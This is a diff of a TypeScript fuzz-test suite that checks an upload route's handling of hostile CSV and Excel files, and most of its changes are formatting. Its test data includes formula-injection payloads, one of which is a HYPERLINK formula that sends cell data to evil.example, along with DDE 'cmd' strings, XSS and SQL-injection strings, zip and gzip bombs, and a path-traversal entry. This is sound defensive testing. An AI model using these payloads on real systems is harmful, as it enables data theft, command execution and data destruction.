@@ -52,7 +52,9 @@ beforeAll(async () => {
   useImportSession(baseUrl, adminCookie);
   coordinatorCookie = await signInCookie(baseUrl, running.db, DEMO_ACCOUNTS.coordinator);
   const sqlite = running.db.$client;
-  const pilot = sqlite.prepare("SELECT p.id, p.title, j.name AS project, j.id AS projectId FROM pilots p JOIN projects j ON j.id = p.project_id WHERE p.title = '[Fictional] Valley Welcome Desk'").get() as { id: number; title: string; project: string; projectId: number };
+  const pilot = sqlite
+    .prepare("SELECT p.id, p.title, j.name AS project, j.id AS projectId FROM pilots p JOIN projects j ON j.id = p.project_id WHERE p.title = '[Fictional] Valley Welcome Desk'")
+    .get() as { id: number; title: string; project: string; projectId: number };
   pilotId = pilot.id;
   pilotTitle = pilot.title;
   projectName = pilot.project;
@@ -89,7 +91,9 @@ function expectReadable(message: unknown, where: string) {
   expect(text.trim().length, `${where}: empty message`).toBeGreaterThan(8);
   expect(text.length, `${where}: message too long to read`).toBeLessThan(2_000);
   const own = withoutQuotes(text);
-  expect(own, `${where}: ${text}`).not.toMatch(/internal|sqlite|SQL|stack|\bat \S+ \(|\.(ts|js|mjs):\d+|TypeError|ReferenceError|RangeError|\bundefined\b|\[object Object\]|\bNaN\b|ERR_/i);
+  expect(own, `${where}: ${text}`).not.toMatch(
+    /internal|sqlite|SQL|stack|\bat \S+ \(|\.(ts|js|mjs):\d+|TypeError|ReferenceError|RangeError|\bundefined\b|\[object Object\]|\bNaN\b|ERR_/i,
+  );
 }
 
 // ---------------------------------------------------------------------------------------------------
@@ -263,15 +267,93 @@ async function tryUpload(group: string, upload: Upload, expected: { outcome?: Ou
 
 const allColumns = [...new Set([...columns.results, ...columns.indicators, ...columns.pilots, ...columns.projects])];
 const hostileTexts = [
-  "NaN", "nan", "Infinity", "-Infinity", "1e308", "1E308", "-1e308", "1e-320", "1.234,5", "1,234.5", "1 234", "1e3", "0x10", "-0", "+5", "5.", " 7 ", "٣", "１２",
-  "null", "undefined", "true", "FALSE", "#DIV/0!", "#N/A",
-  '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "'=1+1", "=cmd|'/c calc'!A1",
-  "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "'; DROP TABLE results; --", "1; DELETE FROM projects",
-  "a\u0007b", "\u001b[31mred", "\u202eevil\u202c", "👩‍👩‍👧‍👦🇮🇹", "مرحبا بالعالم", "\uFEFFLANG-H", "\uD800",
-  "9".repeat(400), "9".repeat(300), "1".repeat(20), "1000000000000", "1000000000001", "999999999999.5", "4".repeat(17),
-  "2021-02-30", "2026-01-01", "9999-12-31", "0", "1", "2", "4", "5", "6", "8", "9", "10", "11", "-1", "0.5", "8,6", "8.6", "3,5,7",
-  "count", "score", "percentage", "quantitative", "qualitative", "at_least", "at_most", "to_date", "increments", "quarterly", "monthly",
-  "\"", '""', "\"unclosed", "a\"b", "line\nbreak", "semi;colon", "tab\there", "comma,inside",
+  "NaN",
+  "nan",
+  "Infinity",
+  "-Infinity",
+  "1e308",
+  "1E308",
+  "-1e308",
+  "1e-320",
+  "1.234,5",
+  "1,234.5",
+  "1 234",
+  "1e3",
+  "0x10",
+  "-0",
+  "+5",
+  "5.",
+  " 7 ",
+  "٣",
+  "１２",
+  "null",
+  "undefined",
+  "true",
+  "FALSE",
+  "#DIV/0!",
+  "#N/A",
+  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+  "=1+1",
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "-2+3",
+  "'=1+1",
+  "=cmd|'/c calc'!A1",
+  "<script>alert(1)</script>",
+  '<img src=x onerror="alert(1)">',
+  "'; DROP TABLE results; --",
+  "1; DELETE FROM projects",
+  "a\u0007b",
+  "\u001b[31mred",
+  "\u202eevil\u202c",
+  "👩‍👩‍👧‍👦🇮🇹",
+  "مرحبا بالعالم",
+  "\uFEFFLANG-H",
+  "\uD800",
+  "9".repeat(400),
+  "9".repeat(300),
+  "1".repeat(20),
+  "1000000000000",
+  "1000000000001",
+  "999999999999.5",
+  "4".repeat(17),
+  "2021-02-30",
+  "2026-01-01",
+  "9999-12-31",
+  "0",
+  "1",
+  "2",
+  "4",
+  "5",
+  "6",
+  "8",
+  "9",
+  "10",
+  "11",
+  "-1",
+  "0.5",
+  "8,6",
+  "8.6",
+  "3,5,7",
+  "count",
+  "score",
+  "percentage",
+  "quantitative",
+  "qualitative",
+  "at_least",
+  "at_most",
+  "to_date",
+  "increments",
+  "quarterly",
+  "monthly",
+  '"',
+  '""',
+  '"unclosed',
+  'a"b',
+  "line\nbreak",
+  "semi;colon",
+  "tab\there",
+  "comma,inside",
 ];
 const hostileText = fc.oneof(
   { weight: 6, arbitrary: fc.constantFrom(...hostileTexts) },
@@ -282,7 +364,18 @@ const hostileText = fc.oneof(
   { weight: 1, arbitrary: fc.constantFrom("x".repeat(6_000), "y".repeat(120_000)) },
 );
 /** Cells that name the pilot's real things, so that some rows get far into the checks. */
-const realText = fc.constantFrom(...["LANG-H", "MIG-INV", "ORG-TUT", "PPL-INF", "SAT-MIG", "Hours of language courses delivered", "Participants completing the language course", "Volunteers trained as welcome buddies"]);
+const realText = fc.constantFrom(
+  ...[
+    "LANG-H",
+    "MIG-INV",
+    "ORG-TUT",
+    "PPL-INF",
+    "SAT-MIG",
+    "Hours of language courses delivered",
+    "Participants completing the language course",
+    "Volunteers trained as welcome buddies",
+  ],
+);
 const csvCell = fc.oneof({ weight: 3, arbitrary: hostileText }, { weight: 2, arbitrary: realText }, { weight: 1, arbitrary: fc.constant("") });
 
 const headerName = fc.oneof(
@@ -337,10 +430,7 @@ function csvBytes(shape: CsvShape): Uint8Array {
 }
 
 /** Any header, any rows: mostly refusals, every one of them typed. */
-const messyCsv = csvShape(
-  fc.array(fc.array(csvCell, { minLength: 0, maxLength: 16 }), { maxLength: 12 }),
-  fc.array(headerName, { minLength: 0, maxLength: 16 }),
-);
+const messyCsv = csvShape(fc.array(fc.array(csvCell, { minLength: 0, maxLength: 16 }), { maxLength: 12 }), fc.array(headerName, { minLength: 0, maxLength: 16 }));
 
 /** A results file of the pilot, close to valid: real indicators and periods, values from sound to absurd. */
 const resultValue = fc.oneof(
@@ -349,10 +439,7 @@ const resultValue = fc.oneof(
   { weight: 3, arbitrary: hostileText },
   { weight: 1, arbitrary: fc.constant("") },
 );
-const resultComment = fc.oneof(
-  { weight: 4, arbitrary: fc.constantFrom("Courses went well", "Fewer people in summer", "") },
-  { weight: 1, arbitrary: hostileText },
-);
+const resultComment = fc.oneof({ weight: 4, arbitrary: fc.constantFrom("Courses went well", "Fewer people in summer", "") }, { weight: 1, arbitrary: hostileText });
 const resultsRow = fc.tuple(
   fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...["LANG-H", "MIG-INV", "ORG-TUT", "PPL-INF", "SAT-MIG"]) }, { weight: 1, arbitrary: csvCell }),
   fc.oneof({ weight: 6, arbitrary: fc.constantFrom("5", "5", "5", "4", "3", "6") }, { weight: 1, arbitrary: csvCell }),
@@ -361,9 +448,15 @@ const resultsRow = fc.tuple(
   resultComment,
   fc.oneof({ weight: 4, arbitrary: fc.constant("") }, { weight: 1, arbitrary: hostileText }),
 );
-const resultsHeader = fc.constantFrom<string[]>(["Code", "Period", "Value", "Respondents", "Comment", "Entered by"], ["code", "PERIOD", " value ", "Respondents", "comment", "entered by"]);
+const resultsHeader = fc.constantFrom<string[]>(
+  ["Code", "Period", "Value", "Respondents", "Comment", "Entered by"],
+  ["code", "PERIOD", " value ", "Respondents", "comment", "entered by"],
+);
 const nearlyValidResultsCsv = csvShape(
-  fc.array(resultsRow.map((r) => [...r]), { minLength: 1, maxLength: 3 }),
+  fc.array(
+    resultsRow.map((r) => [...r]),
+    { minLength: 1, maxLength: 3 },
+  ),
   resultsHeader,
 ).map((shape) => ({ ...shape, extraColumns: 0 }));
 
@@ -379,7 +472,10 @@ const indicatorRow = fc.tuple(
   fc.oneof(fc.constant(""), fc.constantFrom("5", "10", "100"), hostileText),
 );
 const nearlyValidIndicatorsCsv = csvShape(
-  fc.array(indicatorRow.map((r) => [...r]), { minLength: 1, maxLength: 4 }),
+  fc.array(
+    indicatorRow.map((r) => [...r]),
+    { minLength: 1, maxLength: 4 },
+  ),
   fc.constant(["Code", "Indicator", "Kind", "Measure", "Cumulation", "Goal", "Scale min", "Scale max"]),
 ).map((shape) => ({ ...shape, extraColumns: 0 }));
 
@@ -395,7 +491,10 @@ const soundEnteredBy = fc.oneof({ weight: 8, arbitrary: fc.constantFrom("", "Ana
 const soundRow = fc.oneof(
   fc.tuple(
     fc.constantFrom("LANG-H", "MIG-INV", "PPL-INF", "lang-h"),
-    fc.oneof({ weight: 12, arbitrary: fc.oneof(fc.integer({ min: 0, max: 1_000_000 }).map(String), fc.constantFrom("12,5", "0.25", " 40 ", "+7")) }, { weight: 1, arbitrary: absurdNumber }),
+    fc.oneof(
+      { weight: 12, arbitrary: fc.oneof(fc.integer({ min: 0, max: 1_000_000 }).map(String), fc.constantFrom("12,5", "0.25", " 40 ", "+7")) },
+      { weight: 1, arbitrary: absurdNumber },
+    ),
     fc.constant(""),
     soundComment,
     soundEnteredBy,
@@ -419,21 +518,33 @@ const soundResultsCsv = fc
     lineEndings: fc.array(fc.constantFrom("\n", "\r\n"), { minLength: 1, maxLength: 2 }),
     bom: fc.constantFrom<CsvShape["bom"]>("none", "utf8"),
   })
-  .map(({ results, ...layout }): CsvShape => ({ ...layout, header: results.header, rows: results.rows.map(([code, value, respondents, comment, by]) => [code, "5", value, respondents, comment, by]), quoting: "proper", extraColumns: 0 }));
+  .map(
+    ({ results, ...layout }): CsvShape => ({
+      ...layout,
+      header: results.header,
+      rows: results.rows.map(([code, value, respondents, comment, by]) => [code, "5", value, respondents, comment, by]),
+      quoting: "proper",
+      extraColumns: 0,
+    }),
+  );
 /** The same as a workbook, numbers as number cells (1e308 too), the sheet named Results or not. */
-const soundResultsXlsx = fc.record({ results: soundResults, sheet: fc.constantFrom("Results", "Sheet1", "results"), numberCells: fc.boolean() }).map(({ results, sheet, numberCells }) => ({
-  name: sheet,
-  header: results.header,
-  rows: results.rows.map(([code, value, respondents, comment, by]): ExcelJS.CellValue[] => {
-    const asCell = (text: string) => (numberCells && text !== "" && Number.isFinite(Number(text.replace(",", "."))) ? Number(text.replace(",", ".")) : text);
-    return [code, numberCells ? 5 : "5", asCell(value), asCell(respondents), comment, by];
-  }),
-}));
+const soundResultsXlsx = fc
+  .record({ results: soundResults, sheet: fc.constantFrom("Results", "Sheet1", "results"), numberCells: fc.boolean() })
+  .map(({ results, sheet, numberCells }) => ({
+    name: sheet,
+    header: results.header,
+    rows: results.rows.map(([code, value, respondents, comment, by]): ExcelJS.CellValue[] => {
+      const asCell = (text: string) => (numberCells && text !== "" && Number.isFinite(Number(text.replace(",", "."))) ? Number(text.replace(",", ".")) : text);
+      return [code, numberCells ? 5 : "5", asCell(value), asCell(respondents), comment, by];
+    }),
+  }));
 
 /** Whole-project results: Project and Pilot columns, real or not. */
 const projectResultsCsv = csvShape(
   fc.array(
-    fc.tuple(fc.oneof(fc.constant("__project__"), hostileText), fc.oneof(fc.constant("__pilot__"), hostileText), resultsRow).map(([project, pilot, row]) => [project, pilot, ...row]),
+    fc
+      .tuple(fc.oneof(fc.constant("__project__"), hostileText), fc.oneof(fc.constant("__pilot__"), hostileText), resultsRow)
+      .map(([project, pilot, row]) => [project, pilot, ...row]),
     { minLength: 1, maxLength: 5 },
   ),
   fc.constant(["Project", "Pilot", "Code", "Period", "Value", "Respondents", "Comment", "Entered by"]),
@@ -447,12 +558,26 @@ const xlsxCell: fc.Arbitrary<ExcelJS.CellValue> = fc.oneof(
   { weight: 2, arbitrary: fc.constantFrom(0, -0, 5, 1e308, -1e308, 5e-324, 2 ** 53 + 1, 1e12, 1e13, 0.5, 8.6) },
   { weight: 1, arbitrary: fc.boolean() },
   { weight: 1, arbitrary: fc.date({ min: new Date("1899-12-31"), max: new Date("2100-01-01"), noInvalidDate: true }) },
-  { weight: 1, arbitrary: fc.constantFrom<ExcelJS.CellValue>({ formula: "1/0", result: { error: "#DIV/0!" } }, { formula: "SUM(A1:A3)", result: 7 }, { formula: 'HYPERLINK("http://evil.example","x")', result: "x" }, { formula: "NOW()" } as ExcelJS.CellValue) },
+  {
+    weight: 1,
+    arbitrary: fc.constantFrom<ExcelJS.CellValue>(
+      { formula: "1/0", result: { error: "#DIV/0!" } },
+      { formula: "SUM(A1:A3)", result: 7 },
+      { formula: 'HYPERLINK("http://evil.example","x")', result: "x" },
+      { formula: "NOW()" } as ExcelJS.CellValue,
+    ),
+  },
   { weight: 1, arbitrary: fc.constantFrom<ExcelJS.CellValue>({ error: "#N/A" }, { error: "#REF!" }) as fc.Arbitrary<ExcelJS.CellValue> },
-  { weight: 1, arbitrary: fc.constantFrom<ExcelJS.CellValue>({ richText: [{ text: "LANG" }, { text: "-H", font: { bold: true } }] }, { text: "LANG-H", hyperlink: "http://evil.example" }) },
+  {
+    weight: 1,
+    arbitrary: fc.constantFrom<ExcelJS.CellValue>({ richText: [{ text: "LANG" }, { text: "-H", font: { bold: true } }] }, { text: "LANG-H", hyperlink: "http://evil.example" }),
+  },
   { weight: 1, arbitrary: fc.constant(null) },
 );
-const sheetName = fc.oneof(fc.constantFrom("Results", "Indicators", "Pilots", "Projects", "Sheet1", "About", " results ", "RESULTS", "Résultats"), fc.stringMatching(/^[A-Za-z0-9 ]{1,20}$/));
+const sheetName = fc.oneof(
+  fc.constantFrom("Results", "Indicators", "Pilots", "Projects", "Sheet1", "About", " results ", "RESULTS", "Résultats"),
+  fc.stringMatching(/^[A-Za-z0-9 ]{1,20}$/),
+);
 const xlsxSheet = fc.record({
   name: sheetName,
   header: fc.oneof(fc.array(headerName, { maxLength: 14 }), fc.constant([...columns.results]), fc.constant([...columns.indicators])),
@@ -481,9 +606,14 @@ describe("hostile uploads", () => {
 
   it("answers malformed CSV on every route with a typed refusal or a sound import", async () => {
     await fc.assert(
-      fc.asyncProperty(messyCsv, fc.constantFrom<"pilot" | "project">("pilot", "project"), fc.constantFrom("data.csv", "data.CSV", "data.txt", "results"), async (shape, route, fileName) => {
-        await tryUpload(`messy CSV → ${route}`, { body: csvBytes(shape), fileName, pilot: route === "pilot" ? pilotId : null });
-      }),
+      fc.asyncProperty(
+        messyCsv,
+        fc.constantFrom<"pilot" | "project">("pilot", "project"),
+        fc.constantFrom("data.csv", "data.CSV", "data.txt", "results"),
+        async (shape, route, fileName) => {
+          await tryUpload(`messy CSV → ${route}`, { body: csvBytes(shape), fileName, pilot: route === "pilot" ? pilotId : null });
+        },
+      ),
       { numRuns: 200, seed },
     );
   }, 240_000);
@@ -498,11 +628,16 @@ describe("hostile uploads", () => {
       fc.uint8Array({ minLength: 1, maxLength: 512 }).map((b) => Uint8Array.from([0xff, 0xfe, ...b])),
     );
     await fc.assert(
-      fc.asyncProperty(garbage, fc.constantFrom("data.csv", "data.xlsx", "data.xls", "photo.jpg", ""), fc.constantFrom<"pilot" | "project">("pilot", "project"), async (bytes, fileName, route) => {
-        const outcome = await tryUpload("random bytes", { body: bytes, fileName, pilot: route === "pilot" ? pilotId : null });
-        // Random bytes are never a file with results (a lucky header line would need letters in order).
-        expect(outcome).toBe("refused");
-      }),
+      fc.asyncProperty(
+        garbage,
+        fc.constantFrom("data.csv", "data.xlsx", "data.xls", "photo.jpg", ""),
+        fc.constantFrom<"pilot" | "project">("pilot", "project"),
+        async (bytes, fileName, route) => {
+          const outcome = await tryUpload("random bytes", { body: bytes, fileName, pilot: route === "pilot" ? pilotId : null });
+          // Random bytes are never a file with results (a lucky header line would need letters in order).
+          expect(outcome).toBe("refused");
+        },
+      ),
       { numRuns: 100, seed },
     );
   }, 240_000);
@@ -548,13 +683,26 @@ describe("hostile uploads", () => {
         return { kind: "truncated", bytes: bytes.slice(0, Math.max(4, Math.floor(bytes.length * at))) };
       }),
       // A few bytes changed.
-      fc.tuple(fc.constantFrom("template", "project"), fc.array(fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 })).map(([which, flips]) => {
-        const bytes = (which === "template" ? templateXlsx : projectWorkbook).slice();
-        for (const [at, value] of flips) bytes[Math.floor(at * bytes.length)] = value;
-        return { kind: "flipped", bytes };
-      }),
+      fc
+        .tuple(
+          fc.constantFrom("template", "project"),
+          fc.array(fc.tuple(fc.double({ min: 0, max: 0.999, noNaN: true }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }),
+        )
+        .map(([which, flips]) => {
+          const bytes = (which === "template" ? templateXlsx : projectWorkbook).slice();
+          for (const [at, value] of flips) bytes[Math.floor(at * bytes.length)] = value;
+          return { kind: "flipped", bytes };
+        }),
       // A zip of random files, or a Word document: a zip that is not a workbook.
-      fc.array(fc.tuple(fc.constantFrom("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "_rels/.rels", "readme.txt", "../evil.txt"), fc.string({ maxLength: 200 })), { maxLength: 5 }).map((entries) => ({ kind: "zip", entries })),
+      fc
+        .array(
+          fc.tuple(
+            fc.constantFrom("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "_rels/.rels", "readme.txt", "../evil.txt"),
+            fc.string({ maxLength: 200 }),
+          ),
+          { maxLength: 5 },
+        )
+        .map((entries) => ({ kind: "zip", entries })),
       fc.constant({ kind: "docx", bytes: wordDocument }),
     );
     await fc.assert(
@@ -576,7 +724,11 @@ describe("hostile uploads", () => {
     await tryUpload("own files", { body: templateCsv, fileName: "template.csv", pilot: pilotId }, { outcome: "accepted" });
     await tryUpload("own files", { body: projectWorkbook, fileName: "project-data.xlsx", pilot: null }, { outcome: "accepted" });
     // With a byte-order mark and Windows line endings, as Excel saves CSV.
-    await tryUpload("own files", { body: "\uFEFF" + templateCsv.replace(/^\uFEFF/, "").replace(/\r?\n/g, "\r\n"), fileName: "template.csv", pilot: pilotId }, { outcome: "accepted" });
+    await tryUpload(
+      "own files",
+      { body: "\uFEFF" + templateCsv.replace(/^\uFEFF/, "").replace(/\r?\n/g, "\r\n"), fileName: "template.csv", pilot: pilotId },
+      { outcome: "accepted" },
+    );
   }, 120_000);
 
   it("refuses oversized files with a clear message: over 40 MB, and over the row limits", async () => {
@@ -596,23 +748,43 @@ describe("hostile uploads", () => {
       },
     });
     await tryUpload("oversized", { body: streamed, fileName: "streamed.csv", pilot: pilotId }, { status: 413, messageIncludes: `larger than ${limitMb} MB` });
-    await tryUpload("oversized", { body: gzipSync(zeros), fileName: "bomb.csv", pilot: pilotId, headers: { "content-encoding": "gzip" } }, { status: 413, messageIncludes: `larger than ${limitMb} MB` });
+    await tryUpload(
+      "oversized",
+      { body: gzipSync(zeros), fileName: "bomb.csv", pilot: pilotId, headers: { "content-encoding": "gzip" } },
+      { status: 413, messageIncludes: `larger than ${limitMb} MB` },
+    );
 
     // Rows: one over each limit, on the route that reads that sheet.
     const rowsOver = (header: string, row: (i: number) => string, count: number) => `${header}\n${Array.from({ length: count }, (_, i) => row(i)).join("\n")}\n`;
     const resultRows = IMPORT_LIMITS.maxResultRows + 1;
-    await tryUpload("too many rows", { body: rowsOver("Code,Period,Value", () => "LANG-H,5,1", resultRows), fileName: "rows.csv", pilot: pilotId }, { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxResultRows.toLocaleString("en-GB")}` });
+    await tryUpload(
+      "too many rows",
+      { body: rowsOver("Code,Period,Value", () => "LANG-H,5,1", resultRows), fileName: "rows.csv", pilot: pilotId },
+      { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxResultRows.toLocaleString("en-GB")}` },
+    );
     const indicatorRows = IMPORT_LIMITS.maxIndicatorRows + 1;
-    await tryUpload("too many rows", { body: rowsOver("Indicator,Kind,Measure,Goal", (i) => `Indicator ${i},quantitative,count,10`, indicatorRows), fileName: "rows.csv", pilot: pilotId }, { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxIndicatorRows.toLocaleString("en-GB")}` });
+    await tryUpload(
+      "too many rows",
+      { body: rowsOver("Indicator,Kind,Measure,Goal", (i) => `Indicator ${i},quantitative,count,10`, indicatorRows), fileName: "rows.csv", pilot: pilotId },
+      { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxIndicatorRows.toLocaleString("en-GB")}` },
+    );
     const projectRows = IMPORT_LIMITS.maxProjectRows + 1;
-    await tryUpload("too many rows", { body: rowsOver("Project,Programme,Start date,End date,Tolerance (%)", (i) => `Project ${i},P,2024-01-01,2025-12-31,15`, projectRows), fileName: "rows.csv", pilot: null }, { outcome: "refused" });
+    await tryUpload(
+      "too many rows",
+      { body: rowsOver("Project,Programme,Start date,End date,Tolerance (%)", (i) => `Project ${i},P,2024-01-01,2025-12-31,15`, projectRows), fileName: "rows.csv", pilot: null },
+      { outcome: "refused" },
+    );
     // In a workbook too: a Pilots sheet one row over its limit.
     const workbook = new ExcelJS.Workbook();
     const pilotsSheet = workbook.addWorksheet("Pilots");
     pilotsSheet.addRow([...columns.pilots]);
     for (let i = 0; i <= IMPORT_LIMITS.maxPilotRows; i++) pilotsSheet.addRow([projectName, `Pilot ${i}`, "", "", "", "2024-01-01", "2025-12-31", "quarterly"]);
     workbook.addWorksheet("Indicators").addRow([...columns.indicators]);
-    await tryUpload("too many rows", { body: new Uint8Array(await workbook.xlsx.writeBuffer()), fileName: "rows.xlsx", pilot: null }, { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxPilotRows.toLocaleString("en-GB")}` });
+    await tryUpload(
+      "too many rows",
+      { body: new Uint8Array(await workbook.xlsx.writeBuffer()), fileName: "rows.xlsx", pilot: null },
+      { outcome: "refused", messageIncludes: `at most ${IMPORT_LIMITS.maxPilotRows.toLocaleString("en-GB")}` },
+    );
     // A zip bomb: a sheet of 401 MB of zeros packs into well under a megabyte, under every upload limit.
     const bomb = new JSZip();
     bomb.file("[Content_Types].xml", "<Types/>");
@@ -635,7 +807,11 @@ describe("hostile uploads", () => {
     // A hostile file name is only a label: the file is read as any other, and the name is cut to 200 characters.
     await tryUpload("access and query", { body: csv, fileName: "x".repeat(5_000) + "\u0000<script>.csv", pilot: pilotId });
     await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot: pilotId, headers: { "content-encoding": "br-nonsense" } }, { outcome: "refused" });
-    await tryUpload("access and query", { body: new TextEncoder().encode("not gzip at all"), fileName: "a.csv", pilot: pilotId, headers: { "content-encoding": "gzip" } }, { outcome: "refused" });
+    await tryUpload(
+      "access and query",
+      { body: new TextEncoder().encode("not gzip at all"), fileName: "a.csv", pilot: pilotId, headers: { "content-encoding": "gzip" } },
+      { outcome: "refused" },
+    );
     await tryUpload("access and query", { body: csv, fileName: "a.csv", pilot: pilotId, headers: { origin: "https://evil.example" } }, { status: 403 });
     // A gzip-encoded sound file is read like the plain one (and here refused only for its missing comment, or accepted).
     await tryUpload("access and query", { body: gzipSync(new TextEncoder().encode(csv)), fileName: "a.csv", pilot: pilotId, headers: { "content-encoding": "gzip" } });
